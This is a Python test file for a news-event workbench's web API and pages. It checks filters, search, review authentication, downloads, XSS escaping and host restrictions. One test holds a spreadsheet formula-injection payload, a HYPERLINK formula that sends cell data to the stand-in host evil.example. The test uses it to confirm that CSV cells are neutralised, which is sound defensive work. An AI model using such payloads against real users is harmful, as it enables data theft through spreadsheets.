"""The workbench's REST API and pages, in-process (FastAPI's TestClient) over a real SQLite
file and a real PostgreSQL schema holding articles run through the real pipeline."""
from __future__ import annotations

import csv
import io
import json
import warnings

import pytest

pytest.importorskip("fastapi")
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from aliansi.store import open_store  # noqa: E402
from aliansi.web import create_app  # noqa: E402
from aliansi.web.app import CSP, MAX_BODY, MAX_PAGE  # noqa: E402
from webcorpus import IMG, PWNED, SCRIPT, stored  # noqa: E402

TOKEN = "test-token-123"
AUTH = {"Authorization": f"Bearer {TOKEN}"}


@pytest.fixture
def location(store_location):
    return stored(store_location)


@pytest.fixture
def client(location):
    with TestClient(create_app(location, token=TOKEN)) as c:
        yield c


def _ids(response):
    assert response.status_code == 200, response.text
    return [e["id"] for e in response.json()["items"]]


def test_web_events_filters_pages_and_total(client):
    everything = client.get("/api/v1/events", params={"limit": MAX_PAGE}).json()
    assert everything["total"] == len(everything["items"]) > 10
    pages = [i for off in range(0, everything["total"], 4)
             for i in _ids(client.get("/api/v1/events", params={"limit": 4, "offset": off}))]
    assert pages == [e["id"] for e in everything["items"]]        # stable order
    by_name = _ids(client.get("/api/v1/events", params={"actor": "Jepang", "limit": 500}))
    by_code = _ids(client.get("/api/v1/events", params={"actor": "jpn", "limit": 500}))
    assert by_name == by_code and by_code
    dyad = client.get("/api/v1/events", params={"dyad": "Indonesia,Japan"}).json()["items"]
    assert {e["type"] for e in dyad} == {"CONSULT", "AGREE"}
    assert all({"IDN", "JPN"} <= set(e["source"] + e["target"]) for e in dyad)
    english = client.get("/api/v1/events", params={"language": "en"}).json()["items"]
    assert {e["article_id"] for e in english} == {"test-en-1"}
    typed = client.get("/api/v1/events", params=[("type", "AGREE"), ("type", "accuse")]).json()
    assert {e["type"] for e in typed["items"]} == {"AGREE", "ACCUSE"}
    window = client.get("/api/v1/events", params={"since": "2025-11", "until": "2025-11-30"})
    assert {e["article_id"] for e in window.json()["items"]} == {"test-en-1", "test-id-1",
                                                                 "test-xss-1"}
    assert client.get("/api/v1/events", params={"country": "Malaysia"}).json()["total"] >= 1


def test_web_full_text_search_in_both_languages(client):
    english = client.get("/api/v1/events", params={"q": "defence agreement"}).json()
    assert english["total"] >= 1
    assert all("defence" in e["evidence"].lower() and "agreement" in e["evidence"].lower()
               for e in english["items"])
    indonesian = client.get("/api/v1/events", params={"q": "menteri jakarta"}).json()
    assert {e["article_id"] for e in indonesian["items"]} == {"test-id-1"}
    prefix = client.get("/api/v1/events", params={"q": "kerja*"}).json()
    assert prefix["total"] >= 1 and all("kerja" in e["evidence"].lower()
                                        for e in prefix["items"])
    assert client.get("/api/v1/events", params={"q": "zzzqqq"}).json()["total"] == 0
    facets = client.get("/api/v1/events/facets", params={"q": "menteri"}).json()
    assert "facets" in facets, facets
    assert sum(facets["facets"]["type"].values()) == facets["total"]
    assert facets["facets"]["review"] == {"unreviewed": facets["total"]}


@pytest.mark.parametrize("params, parameter, message", [
    ({"actor": "Atlantis"}, "actor", "unknown actor 'Atlantis'"),
    ({"actor": "Tiongkk"}, "actor", "did you mean CHN"),
    ({"type": "HUG"}, "type", "unknown event type 'HUG'"),
    ({"since": "2025-02-30"}, "since", "is not a date"),
    ({"until": "yesterday"}, "until", "is not a date"),
    ({"sector": "navy"}, "sector", "unknown sector 'navy'"),
    ({"context": "sports"}, "context", "unknown context 'sports'"),
    ({"dyad": "JPN"}, "dyad", "two actors"),
    ({"review": "maybe"}, "review", "unknown review state"),
    ({"q": "!!!"}, "q", "no words"),
    ({"limit": MAX_PAGE + 1}, "limit", "less than or equal to 500"),
    ({"offset": -1}, "offset", "greater than or equal to 0"),
    ({"min_confidence": "high"}, "min_confidence", "valid number"),
])
def test_web_bad_parameter_is_a_clear_json_error(client, params, parameter, message):
    response = client.get("/api/v1/events", params=params)
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["parameter"] == parameter and message in error["message"]


def test_web_event_detail_with_article_sentence_and_other_reports(client):
    (event,) = [e for e in client.get("/api/v1/events", params={"dyad": "IDN,MYS"}).json()["items"]]
    detail = client.get(f"/api/v1/events/{event['id']}").json()
    text = detail["article"]["text"]
    (start, end), = detail["event"]["evidence_spans"]
    assert text[start:end] == detail["event"]["evidence"]
    (sentence,) = detail["sentences"]
    assert sentence["start"] <= start < end <= sentence["end"]
    assert detail["article"]["url"] is None          # a javascript: URL is never given out
    assert detail["occurrence"]["outlets"] == 1 and detail["occurrence"]["reports"] == []
    assert client.get("/api/v1/events/nope").status_code == 404
    # two files of one text: one article with two sources
    samples = client.get("/api/v1/articles").json()
    assert samples["total"] == 5


def test_web_actors_lookup_profile_dyad_network_clusters_map(client):
    assert client.get("/api/v1/actors/lookup", params={"name": "Amerika Serikat"}).json()["code"] == "USA"
    assert client.get("/api/v1/actors/lookup", params={"name": "Tiongkok"}).json()["code"] == "CHN"
    assert client.get("/api/v1/actors/lookup", params={"name": "Narnia"}).status_code == 400
    seen = client.get("/api/v1/actors", params={"seen": True, "limit": 500}).json()["items"]
    assert {"JPN", "IDN", "NATO"} <= {a["code"] for a in seen}
    profile = client.get("/api/v1/actors/Jepang").json()
    assert profile["code"] == "JPN" and profile["events"] > 0
    assert "IDN" in {p["actor"] for p in profile["partners"]}
    series = client.get("/api/v1/dyads/JPN/IDN", params={"by": "year"}).json()
    a_b, b_a, both = (series["directions"][d] for d in ("a->b", "b->a", "both"))
    assert sum(r["events"] for r in a_b) == 2 and sum(r["events"] for r in b_a) == 0
    assert sum(r["events"] for r in both) == 2 and a_b[0]["cooperation"] > 0
    assert client.get("/api/v1/dyads/JPN/JPN").status_code == 400
    net = client.get("/api/v1/network", params={"since": "2025-11", "until": "2025-11"}).json()
    assert {"IDN", "JPN", "AUS", "MYS"} <= {n["id"] for n in net["nodes"]}
    assert "USA" not in {n["id"] for n in net["nodes"]}        # January 2026: outside
    clusters = client.get("/api/v1/clusters").json()
    assert clusters["total"] >= 10 and clusters["items"][0]["corroboration"] >= 1
    located = client.get("/api/v1/map").json()["countries"]
    assert located.get("MYS", 0) >= 1
    schema = client.get("/api/v1/openapi.json").json()
    assert {"/api/v1/events", "/api/v1/events/{event_id}", "/api/v1/dyads/{a}/{b}",
            "/api/v1/actors", "/api/v1/network", "/api/v1/reviews"} <= set(schema["paths"])


def test_web_csv_and_jsonl_downloads_hold_the_whole_list(client):
    total = client.get("/api/v1/events", params={"actor": "JPN"}).json()["total"]
    rows = list(csv.DictReader(io.StringIO(client.get(
        "/api/v1/events", params={"actor": "JPN", "format": "csv", "limit": 1}).text)))
    assert len(rows) == total and all("JPN" in r["source"] + r["target"] for r in rows)
    lines = client.get("/api/v1/events", params={"actor": "JPN", "format": "jsonl"}).text
    assert [json.loads(x)["id"] for x in lines.splitlines()] == [r["id"] for r in rows]


def test_web_csv_download_cells_never_run_as_formulas(tmp_path):
    """Text from an article that starts like a formula is shown, not run, by a
    spreadsheet opening the CSV download; the JSON Lines download keeps it as it is."""
    from builders import article_with_events

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Indonesia dan Jepang bertemu")'
    article = article_with_events("formula-1", "2025-11-20", "id", [(formula, [dict(
        type="CONSULT", source=["IDN"], target=["JPN"], date="2025-11-20")])],
        outlet="@outlet", url="https://news.example/formula-1")
    location = str(tmp_path / "events.db")
    with open_store(location) as store:
        store.ingest([article])
    with TestClient(create_app(location)) as c:
        (row,) = csv.DictReader(io.StringIO(c.get("/api/v1/events",
                                                  params={"format": "csv"}).text))
        (line,) = c.get("/api/v1/events", params={"format": "jsonl"}).text.splitlines()
    assert row["evidence"] == "'" + formula and row["outlet"] == "'@outlet"
    assert row["url"] == "https://news.example/formula-1" and row["source"] == "IDN"
    assert json.loads(line)["evidence"] == formula


def test_web_review_needs_the_token_and_changes_the_lists(client):
    (event,) = [e for e in client.get("/api/v1/events", params={"dyad": "IDN,JPN",
                                                                 "type": "CONSULT"}).json()["items"]]
    body = {"event_id": event["id"], "verdict": "wrong", "reason": "a plan", "reviewer": "ana"}
    assert client.post("/api/v1/reviews", json=body).status_code == 401
    assert client.post("/api/v1/reviews", json=body,
                       headers={"Authorization": "Bearer wrong"}).status_code == 401
    saved = client.post("/api/v1/reviews", json=body, headers=AUTH)
    assert saved.status_code == 201 and saved.json()["verdict"] == "wrong"
    assert event["id"] not in _ids(client.get("/api/v1/events", params={"limit": 500}))
    assert _ids(client.get("/api/v1/events", params={"review": "wrong"})) == [event["id"]]
    dyad = client.get("/api/v1/dyads/IDN/JPN").json()["directions"]["both"]
    assert sum(r["CONSULT"] for r in dyad) == 0
    fixed = client.post("/api/v1/reviews", headers=AUTH, json={
        "event_id": event["id"], "verdict": "corrected", "reviewer": "ana",
        "correction": {"type": "AGREE", "source": ["Indonesia"], "target": ["JPN"]}})
    assert fixed.status_code == 201, fixed.text
    detail = client.get(f"/api/v1/events/{event['id']}").json()
    assert (detail["event"]["type"], detail["event"]["source"], detail["review"]["verdict"]) == (
        "AGREE", ["IDN"], "corrected")
    assert [h["verdict"] for h in detail["history"]] == ["wrong", "corrected"]
    bad = client.post("/api/v1/reviews", headers=AUTH, json={
        "event_id": event["id"], "verdict": "corrected", "correction": {"type": "HUG"}})
    assert bad.status_code == 400 and "HUG" in bad.json()["error"]["message"]
    assert client.post("/api/v1/reviews", headers=AUTH, json={
        "event_id": "nope", "verdict": "wrong"}).status_code == 404


def test_web_read_only_without_token_and_limits(location):
    with TestClient(create_app(location)) as c:
        event = c.get("/api/v1/events", params={"limit": 1}).json()["items"][0]
        refused = c.post("/api/v1/reviews", json={"event_id": event["id"], "verdict": "wrong"},
                         headers=AUTH)
        assert refused.status_code == 403 and "read-only" in refused.json()["error"]["message"]
        big = c.post("/api/v1/reviews", content=b"{" + b" " * (MAX_BODY + 10) + b"}",
                     headers={"content-type": "application/json", **AUTH})
        assert big.status_code == 413
        page = c.get("/")
        assert page.headers["content-security-policy"] == CSP
        assert page.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/", "/?q=menteri", "/actors/JPN", "/dyads/JPN/IDN",
                                  "/network", "/map", "/?actor=IDN"])
def test_web_pages_show_what_the_store_holds(client, path):
    page = client.get(path)
    assert page.status_code == 200
    assert "<script>" not in page.text and PWNED not in page.text.replace(
        "&#39;pwned&#39;", "").replace("&#x27;pwned&#x27;", "")


def test_web_page_bad_parameter_says_why(client):
    page = client.get("/", params={"since": "2025-13"})
    assert page.status_code == 400 and "is not a date" in page.text
    assert client.get("/events/nope").status_code == 404
    assert client.get("/dyads/JPN/Atlantis").status_code == 400


def test_web_xss_payloads_are_escaped_in_html(client):
    (event,) = client.get("/api/v1/events", params={"dyad": "IDN,MYS"}).json()["items"]
    for path in (f"/events/{event['id']}", "/?q=Kuala", "/?actor=IDN"):
        text = client.get(path).text
        assert SCRIPT not in text and IMG not in text
        assert 'href="javascript:' not in text
    reflected = client.get("/", params={"q": SCRIPT, "actor": IMG}).text
    assert SCRIPT not in reflected and IMG not in reflected


def test_web_counts_and_facets_stay_bounded(client, monkeypatch):
    from aliansi.web import api as web_api

    everything = client.get("/api/v1/events", params={"limit": 500}).json()
    assert everything["total_exact"] is True and everything["next_offset"] is None
    monkeypatch.setattr(web_api, "COUNT_CAP", 5)
    monkeypatch.setattr(web_api, "FACET_SAMPLE", 3)
    capped = client.get("/api/v1/events", params={"limit": 4}).json()
    assert (capped["total"], capped["total_exact"], capped["next_offset"]) == (5, False, 4)
    facets = client.get("/api/v1/events/facets").json()
    assert facets["sample"] == 3 and sum(facets["facets"]["type"].values()) == 3
    assert sum(facets["facets"]["review"].values()) == 3
    top = [e["type"] for e in everything["items"][:3]]
    assert facets["facets"]["type"] == {t: top.count(t) for t in top}
    from aliansi.web import pages

    monkeypatch.setattr(pages, "PAGE", 4)
    page = client.get("/").text
    assert "5+ events" in page and "Facets count the newest 3" in page
    monkeypatch.setattr(pages, "PAGE", 500)     # the whole list on its first page: exact
    page = client.get("/").text
    assert f"{len(everything['items'])} events" in page and "5+" not in page


@pytest.mark.parametrize("a, b, by", [("JPN", "NATO", "month"), ("JPN", "USA", "year"),
                                      ("CHN", "JPN", "week")])
def test_web_dyad_series_equal_the_cli(client, location, a, b, by):
    from aliansi import api as aliansi_api

    series = client.get(f"/api/v1/dyads/{a}/{b}", params={"by": by}).json()["directions"]
    for direction in ("a->b", "b->a", "both"):
        assert series[direction] == aliansi_api.dyad(location, a, b, by=by,
                                                     direction=direction).to_rows()


def test_web_explain_and_ingest(client, location):
    (event,) = client.get("/api/v1/events", params={"dyad": "IDN,JPN", "type": "CONSULT"}).json()["items"]
    explained = client.get(f"/api/v1/events/{event['id']}/explain").json()["sentences"]
    (sentence,) = explained
    assert sentence["sentence"].startswith("Menteri Luar Negeri Indonesia Sugiono bertemu")
    assert {"type": "CONSULT", "source": ["JPN"], "target": ["IDN"]}.items() <= \
        sentence["events"][0].items()
    assert ("Indonesia", "IDN") in {(a["text"], a["actor"]) for a in sentence["actors"]}
    page = client.get(f"/events/{event['id']}", params={"explain": 1}).text
    assert 'class="made"' in page and "CONSULT" in page
    record = {"id": "posted-1", "language": "en", "published": "2025-11-25",
              "text": "Indonesian President Prabowo Subianto met Malaysian Prime Minister Anwar "
                      "Ibrahim in Jakarta on Monday."}
    assert client.post("/api/v1/articles", json={"articles": [record]}).status_code == 401
    done = client.post("/api/v1/articles", json={"articles": [record]}, headers=AUTH)
    assert done.status_code == 201 and done.json()["added"] == 1 and done.json()["events"] >= 1
    assert client.get("/api/v1/events", params={"article": "posted-1"}).json()["total"] >= 1
    bad = client.post("/api/v1/articles", json={"articles": [{"id": "x"}]}, headers=AUTH)
    assert bad.status_code == 400 and "has no 'text'" in bad.json()["error"]["message"]


def test_web_reviews_page_and_gold_download(client):
    (event,) = client.get("/api/v1/events", params={"dyad": "IDN,JPN", "type": "AGREE"}).json()["items"]
    client.post("/api/v1/reviews", headers=AUTH, json={
        "event_id": event["id"], "verdict": "corrected", "reviewer": "ana", "reason": "<b>why</b>",
        "correction": {"source": ["IDN"], "target": ["JPN"]}})
    page = client.get("/reviews").text
    assert "corrected" in page and "source: IDN" in page and "&lt;b&gt;why&lt;/b&gt;" in page
    assert client.get("/reviews", params={"verdict": "maybe"}).status_code == 400
    (document,) = [json.loads(x) for x in client.get("/api/v1/reviews/gold").text.splitlines()]
    assert document["doc_id"] == "test-id-1" and document["complete"] is False
    assert [(e["type"], e["source"], e["target"]) for e in document["events"]] == [
        ("AGREE", ["IDN"], ["JPN"])]


def test_web_loopback_server_answers_only_loopback_names(location):
    from aliansi.web.app import LOOPBACK

    app = create_app(location, allowed_hosts=list(LOOPBACK))
    with TestClient(app, base_url="http://127.0.0.1:8000") as c:
        assert c.get("/api/v1/events", params={"limit": 1}).status_code == 200
        assert c.get("/", headers={"host": "localhost:8000"}).status_code == 200
        assert c.get("/", headers={"host": "evil.example:8000"}).status_code == 400


def test_web_slow_count_is_estimated_and_slow_facets_left_out(tmp_path, monkeypatch):
    from aliansi.store import reviews
    from aliansi.store.reviews import QueryTimeout
    from aliansi.web import api as web_api

    monkeypatch.setattr(reviews, "PROGRESS_STEPS", 1)     # a small store: look at every step
    location = stored(str(tmp_path / "events.db"))
    with TestClient(create_app(location)) as c:
        exact = c.get("/api/v1/events", params={"limit": 1}).json()
        monkeypatch.setattr(web_api, "COUNT_TIME_MS", 0)
        monkeypatch.setattr(web_api, "FACET_TIME_MS", 0)
        estimated = c.get("/api/v1/events", params={"limit": 1}).json()
        assert estimated["total"] is None and estimated["total_exact"] is False
        assert estimated["total_estimate"] == exact["total"]      # the sample is the store
        assert estimated["next_offset"] == 1
        from aliansi.web import pages

        monkeypatch.setattr(pages, "PAGE", 1)
        page = c.get("/").text
        assert f"about {exact['total']} events" in page and "Facets left out" in page
    from aliansi.store import open_store
    with open_store(location) as store:
        with pytest.raises(QueryTimeout), store.time_limit(0):
            store.events()
        assert store.events()          # the limit is gone afterwards
        with pytest.raises(QueryTimeout), store.time_limit(0):
            with store.time_limit(10_000):      # inside a limit, the earlier deadline holds
                store.events()
        with store.time_limit(10_000):
            with pytest.raises(QueryTimeout), store.time_limit(0):
                store.events()
            assert store.events()      # the outer limit is back, and not yet reached


def test_web_time_limit_on_postgresql(postgres_location):
    from aliansi.store import open_store
    from aliansi.store.reviews import QueryTimeout

    with open_store(postgres_location) as store:
        with pytest.raises(QueryTimeout):
            with store.time_limit(50):
                store._rows("SELECT pg_sleep(2)")
        assert store._rows("SELECT 1")[0][0] == 1     # the limit is gone afterwards
        assert store.estimate_events() is None
